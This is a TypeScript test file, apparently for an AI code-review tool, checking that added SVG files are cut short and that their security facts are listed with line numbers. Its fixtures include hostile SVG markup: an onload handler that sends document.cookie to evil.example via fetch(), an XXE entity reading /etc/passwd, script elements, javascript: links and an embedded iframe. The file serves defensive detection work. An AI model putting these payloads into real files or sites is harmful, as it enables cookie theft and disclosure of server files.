/**
 * An SVG is shown cut short, with its security facts from the whole added
 * text (svg.ts through piecesOf): an 82k-character path never reaches a
 * prompt, while a script, an event handler or an outside reference does, as
 * a fact with its line; malformed markup is scanned, never a crash.
 */
import { describe, expect, it } from "vitest";
import { piecesOf } from "../../src/review/codeReview/chunks.js";
import { svgFacts } from "../../src/review/codeReview/svg.js";
import type { FileDiff } from "../../src/review/codeReview/types.js";

const PATH_DATA = `M0 0${Array.from({ length: 6_000 }, (_, i) => ` L${i}.25 ${i % 97}.5`).join("")}`;

function svgFile(lines: string[], path = "assets/logo.svg"): FileDiff {
  return {
    path,
    status: "added",
    binary: false,
    additions: lines.length,
    deletions: 0,
    patch: `diff --git a/${path} b/${path}\nnew file mode 100644\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join("\n")}\n`,
  };
}

const facts = (texts: string[]) => svgFacts(texts.map((text, i) => ({ number: i + 1, text })));

describe("an SVG in a prompt", () => {
  const icon = svgFile([
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" onload="fetch(\'https://evil.example/?c=\'+document.cookie)">',
    `<path fill="url(#grad)" d="${PATH_DATA}"/>`,
    "<script>alert(document.domain)</script>",
    '<image xlink:href="https://tracker.example/pixel.png"/><use href="#icon"/>',
    "</svg>",
  ]);

  it("is cut short: the long path data never reaches the piece", () => {
    expect(PATH_DATA.length).toBeGreaterThan(80_000);
    const [piece] = piecesOf(icon, 24_000)!;
    expect(piece!.length).toBeLessThan(3_000);
    expect(piece).not.toContain(PATH_DATA.slice(50_000, 50_040));
    expect(piece).toMatch(/^2\+<path fill="url\(#grad\)" d="M0 0 L0\.25.* … \[\d+ more characters not shown\]$/m);
  });

  it("lists its script, event handler and outside references with their lines, not references inside itself", () => {
    const [piece] = piecesOf(icon, 24_000)!;
    const block = piece!.slice(piece!.indexOf("SVG security facts"));
    expect(block.split("\n").slice(1)).toEqual([
      "- line 1: event handler attribute: `onload=\"fetch('https://evil.example/?c='+document.cookie)\"`",
      "- line 3: script element: `<script>`",
      '- line 4: reference outside the document: `xlink:href="https://tracker.example/pixel.png"`',
    ]);
  });

  it("says when it has none", () => {
    const [piece] = piecesOf(svgFile(['<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h1"/></svg>']), 24_000)!;
    expect(piece).toContain("SVG security facts, from the whole added text (long lines above are cut short): no script, event handler");
  });

  it("finds embedded documents, entities, javascript: links and animated links", () => {
    expect(
      facts([
        '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        "<foreignObject><iframe src='https://evil.example'></iframe></foreignObject>",
        '<a href="javascript:alert(1)">',
        '<set attributeName="href" to="javascript:alert(2)"/>',
      ]).map((f) => f.split(":").slice(0, 2).join(":")),
    ).toEqual([
      "line 1: entity or DTD declaration",
      "line 2: reference outside the document",
      "line 2: embedded document or plugin",
      "line 2: embedded document or plugin",
      "line 3: reference outside the document",
      "line 3: javascript",
      "line 4: animation that sets a link",
      "line 4: javascript",
    ]);
  });

  it("scans malformed and hostile markup without failing, and bounds what it lists", () => {
    const hostile = ["<svg <<< onload=", `<script${" a".repeat(50_000)}`, "\u0000<ScRiPt>`x`", ...Array.from({ length: 60 }, () => "<g onclick=x>")];
    const found = facts(hostile);
    expect(found.length).toBe(41);
    expect(found.at(-1)).toMatch(/^… \d+ more of these not listed \(\d+ event handler attribute\)$/);
    expect(found.some((f) => f.startsWith("line 3: script element: `<ScRiPt>"))).toBe(true);
    expect(Math.max(...found.map((f) => f.length))).toBeLessThan(200);
  });
});
